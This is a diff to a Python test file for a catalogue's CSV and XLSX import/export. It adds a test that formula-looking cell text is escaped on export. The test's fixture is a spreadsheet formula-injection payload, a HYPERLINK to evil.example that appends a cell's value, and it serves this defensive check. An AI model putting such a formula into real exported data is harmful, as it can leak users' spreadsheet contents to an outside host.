@@ -427,6 +427,28 @@ def test_an_export_imports_back_unchanged(departments, fmt):
         assert catalogue_export(fmt=fmt) == data
 
 
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_looking_text_is_exported_inert_and_imports_back_unchanged(departments, fmt):
+    rows = items()
+    rows[0]["filing_condition"] = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
+    rows[1]["closing_condition"] = "''-以整改为准"  # a CSV cell escaped once, as the export writes it
+    catalogue_import(data=csv_bytes(rows), filename="items.csv")
+    assert PatrolItem.objects.get(code="SJ010102").closing_condition == "'-以整改为准"
+    before = _codes_and_fields()
+
+    data = catalogue_export(fmt=fmt)
+
+    if fmt == "csv":
+        assert ",\"'=HYPERLINK(" in data.decode("utf-8-sig")  # an apostrophe: a spreadsheet shows text
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+        cell = next(c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK"))
+        assert cell.data_type == "s" and cell.quotePrefix
+    assert catalogue_import(data=data, filename=f"export.{fmt}").unchanged == 3
+    assert _codes_and_fields() == before
+    assert PatrolItem.objects.get(code="SJ010102").closing_condition == "'-以整改为准"
+
+
 def test_the_csv_export_has_a_bom_and_the_english_header(departments):
     catalogue_import(data=csv_bytes(items()), filename="items.csv")
 
@@ -469,7 +491,7 @@ def test_the_admin_lists_and_exports_the_catalogue(client, users):
     resp = client.post("/admin/cases/patrolitem/", {"action": "export_csv", "_selected_action": ids})
 
     assert resp.status_code == 200
-    assert resp.content.startswith(b"\xef\xbb\xbf")
+    assert b"".join(resp.streaming_content).startswith(b"\xef\xbb\xbf")
 
 
 def test_an_item_added_in_the_admin_takes_its_kind_and_big_category_from_its_small_category(client, users):
